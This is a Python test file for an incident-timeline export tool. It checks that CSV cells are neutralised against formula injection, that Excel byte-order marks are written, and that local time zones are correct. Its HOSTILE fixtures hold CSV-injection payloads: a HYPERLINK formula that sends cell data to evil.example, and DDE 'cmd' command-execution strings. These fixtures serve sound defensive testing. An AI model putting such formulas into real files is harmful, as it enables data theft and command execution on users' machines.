"""Timeline exports: cells no spreadsheet runs as a formula, Excel's BOM, local times."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

import hikeshi
from hikeshi.guidance.export import export
from hikeshi.guidance.knowledge import knowledge_base
from hikeshi.incidents.selectors.timeline import TimelineEntry
from hikeshi.incidents.services.timeline_export import (
    EXPORT_FIELDS,
    LOCAL_FIELDS,
    ExportOptions,
    export_csv,
    export_jsonl,
)
from hikeshi.spreadsheet import UTF8_BOM, restore_text, text_cell

TOKYO = ZoneInfo("Asia/Tokyo")
# Texts an attacker can put into a log line, a device name or an imported cell.
HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"詳細")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "普通の説明",
    "",
)


def evaluated_by_a_spreadsheet(cell: str) -> bool:
    """Return whether Excel (and Calc, Sheets) would take the cell as a formula.

    Their rule, which OWASP's CSV-injection guidance lists: a cell whose first character
    is =, +, - or @ is a formula; a leading tab or carriage return is dropped by some
    importers, exposing the character behind it. A leading single quote makes it text.
    """
    return cell[:1] in {"=", "+", "-", "@", "\t", "\r"}


def _entry(text: str, at: datetime) -> TimelineEntry:
    return TimelineEntry(
        at=at,
        precision="exact",
        source=text,
        device=text,
        description=text,
        entry_type="action",
        actor=text,
        scope=text,
        settings=text,
        record_hash="ab" * 32,
        action_id=1,
    )


def _entries() -> list[TimelineEntry]:
    at = datetime(2026, 11, 20, 8, 55, tzinfo=TOKYO)
    return [_entry(text, at) for text in HOSTILE]


def test_no_exported_cell_is_a_formula_and_every_text_comes_back() -> None:
    text = "".join(export_csv(_entries()))

    rows = list(csv.reader(io.StringIO(text, newline="")))

    assert tuple(rows[0]) == EXPORT_FIELDS
    for row in rows:
        assert not [cell for cell in row if evaluated_by_a_spreadsheet(cell)], row
    texts = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    for original, row in zip(HOSTILE, texts, strict=True):
        for name in ("message", "source", "device", "actor", "scope", "settings"):
            assert restore_text(row[name]) == original
    assert texts[0]["message"] == "'" + HOSTILE[0]


def test_numbers_are_not_quoted() -> None:
    assert text_cell(-5) == -5
    assert text_cell("-5") == "'-5"
    assert text_cell("2026-11-20") == "2026-11-20"


def test_json_lines_keep_texts_exactly() -> None:
    lines = [json.loads(line) for line in export_jsonl(_entries())]

    assert [line["message"] for line in lines] == list(HOSTILE)


def test_the_excel_option_starts_the_csv_with_a_byte_order_mark() -> None:
    text = "".join(export_csv(_entries(), ExportOptions(bom=True)))

    assert text.startswith(UTF8_BOM + "message,")
    assert text.encode()[:3] == b"\xef\xbb\xbf"
    assert text.count(UTF8_BOM) == 1
    assert not "".join(export_csv(_entries())).startswith(UTF8_BOM)


def test_local_times_carry_the_incident_zone_and_offset() -> None:
    options = ExportOptions(zone=TOKYO)
    entries = [_entry("x", datetime(2026, 11, 19, 23, 55, tzinfo=UTC))]

    row = next(csv.DictReader(io.StringIO("".join(export_csv(entries, options)))))
    line = json.loads(next(export_jsonl(entries, options)))

    assert tuple(row) == EXPORT_FIELDS + LOCAL_FIELDS
    assert row["datetime"] == "2026-11-19T23:55:00+00:00"
    assert row["local_datetime"] == "2026-11-20T08:55:00+09:00"
    assert row["time_zone"] == "Asia/Tokyo"
    assert line["local_datetime"] == "2026-11-20T08:55:00+09:00"


def test_timestamps_keep_every_microsecond() -> None:
    at = datetime(2099, 12, 31, 23, 59, 59, 999_999, tzinfo=UTC)
    line = json.loads(next(export_jsonl([_entry("x", at)])))

    assert line["timestamp"] == 4_102_444_799_999_999


def test_the_guidance_csv_has_no_formula_cell() -> None:
    rows = list(csv.reader(io.StringIO(export(knowledge_base(), "csv"), newline="")))

    assert len(rows) > 1
    assert not [cell for row in rows for cell in row if evaluated_by_a_spreadsheet(cell)]


@pytest.mark.parametrize("pattern", [r"csv\.writer\(", r"csv\.DictWriter\("])
def test_every_csv_writer_goes_through_the_neutralising_function(pattern: str) -> None:
    source = Path(hikeshi.__file__).parent
    writers = [
        path.relative_to(source).as_posix()
        for path in source.rglob("*.py")
        if re.search(pattern, path.read_text(encoding="utf-8"))
    ]

    assert writers in ([], ["spreadsheet.py"]), (
        f"{writers}: write CSV with hikeshi.spreadsheet.csv_lines / csv_text, which "
        "neutralise formula cells"
    )


@pytest.mark.parametrize("zone", [None, TOKYO])
def test_every_value_stands_under_its_own_column(zone: ZoneInfo | None) -> None:
    at = datetime(2026, 11, 20, 8, 55, tzinfo=TOKYO)
    entry = TimelineEntry(
        at=at,
        precision="minute",
        source="proxy",
        device="pc-12",
        description="ランサムノート",
        entry_type="event",
        actor="yamada",
        scope="LAN",
        settings="-",
        record_hash="cd" * 32,
        action_id=None,
    )
    reader = csv.DictReader(io.StringIO("".join(export_csv([entry], ExportOptions(zone=zone)))))
    (row,) = list(reader)
    assert row["message"] == "ランサムノート"
    assert row["device"] == "pc-12"
    assert row["precision"] == "minute"
    assert row["actor"] == "yamada"
    assert row["record_hash"] == "cd" * 32
    assert row["entry_type"] == "event"
    assert row["settings"] == "'-"
    if zone is not None:
        assert row["time_zone"] == "Asia/Tokyo"
        assert row["local_datetime"] == "2026-11-20T08:55:00+09:00"
